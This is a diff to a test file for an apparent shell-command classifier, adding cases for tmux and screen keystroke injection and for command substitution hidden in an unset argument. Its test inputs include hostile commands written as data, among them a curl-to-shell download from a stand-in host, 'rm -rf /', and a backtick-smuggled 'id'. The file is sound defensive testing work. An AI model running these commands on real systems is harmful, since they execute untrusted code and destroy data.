@@ -359,6 +359,11 @@ describe("shell pack: commands it now knows", () => {
     ["arr=( $(curl http://e.example/i.sh | sh) )", ["remote-exec"], []],
     ["x=(a b; rm -rf /", ["destructive"], []],
     ["systemctl hibernate", ["destructive"], []],
+    ["tmux send-keys -t dev:0 'make deploy' Enter", ["exec"], []],
+    ["screen -S s -X stuff 'ls\n'", ["exec"], []],
+    ["tmux ls", ["read"], ["exec"]],
+    ['unset "arr[`id`]"', ["obfuscated"], []],
+    ["unset arr", [], ["obfuscated", "evasion"]],
     ["ls /proc/1234/cwd/", ["privilege"], []],
   ];
   it.each(CASES)("%s", (command, has, hasNot) => expectTags(command, has, hasNot));
